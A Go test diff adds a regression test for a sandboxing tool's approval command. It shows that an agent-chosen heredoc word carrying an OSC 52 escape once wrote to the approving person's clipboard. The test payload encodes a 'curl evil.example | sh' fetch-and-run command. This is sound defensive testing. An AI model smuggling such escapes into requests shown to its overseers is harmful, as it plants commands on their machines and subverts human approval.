@@ -95,3 +95,29 @@ func TestRequestedContainerfileShownAsParsed(t *testing.T) {
 		t.Errorf("approve: %d\n%s%s", code, out.String(), errb.String())
 	}
 }
+
+// What bottle prints of an error reaches the person's terminal with its
+// controls replaced, whatever the error quotes: the Containerfile parser
+// quotes a heredoc's word, which the agent chose, so bottle approve of
+// RUN <<ESC]52;c;...BEL wrote the person's clipboard (OSC 52) on main.
+func TestErrorsReachTheTerminalWithoutControls(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("XDG_STATE_HOME", dir)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, "config"))
+	root := state.Root{Dir: filepath.Join(dir, "bottle")}
+	b := root.Bottle("p-fghij")
+	os.MkdirAll(b.SuperviseDir(), 0o700)
+	os.MkdirAll(b.AgentDir(), 0o700)
+	b.WriteMetadata(state.Metadata{Identity: b.ID, Agent: "p"})
+	osc52 := "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+	r := &supervise.Request{ID: supervise.NewID(), Kind: supervise.KindCapability, Containerfile: "FROM x\nRUN <<" + osc52 + "\n",
+		Reason: "needs jq", Status: supervise.StatusPending, CreatedAt: time.Now()}
+	if err := (supervise.Store{Dir: b.SuperviseDir()}).Create(r); err != nil {
+		t.Fatal(err)
+	}
+	var out, errb bytes.Buffer
+	code := run(context.Background(), []string{"bottle", "approve", b.ID, r.ID}, strings.NewReader(""), &out, &errb)
+	if code == 0 || strings.ContainsAny(errb.String()+out.String(), "\x1b\x07") || !strings.Contains(errb.String(), "unterminated heredoc") {
+		t.Errorf("approve: %d\n%q\n%q", code, out.String(), errb.String())
+	}
+}
